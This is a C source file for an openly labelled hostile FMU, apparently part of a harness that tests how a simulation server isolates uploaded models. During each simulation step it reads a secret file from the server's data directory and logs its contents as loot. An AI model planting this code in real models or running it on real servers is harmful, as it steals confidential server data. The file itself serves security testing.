/* ReadSecret.c - hostile FMU: reads the file named by target (a secret in
 * the server's data directory) in fmi2DoStep and logs its content. */
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static int attack(hostile_ctx *h)
{
    const char *path = hostile_target(h);
    char buf[2048];
    ssize_t n;
    int fd;

    if (!path[0])
        return hostile_fail(h, "no file given (parameter target)");
    if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
        return hostile_fail(h, "open %s: %s", path, strerror(errno));
    n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0)
        return hostile_fail(h, "read %s: %s", path, strerror(errno));
    buf[n] = '\0';
    buf[strcspn(buf, "\r\n")] = '\0';
    hostile_loot(h, "%s: %s", path, buf);
    return 0;
}

const hostile_def hostile_attack = { HOSTILE_AT_DOSTEP, attack };
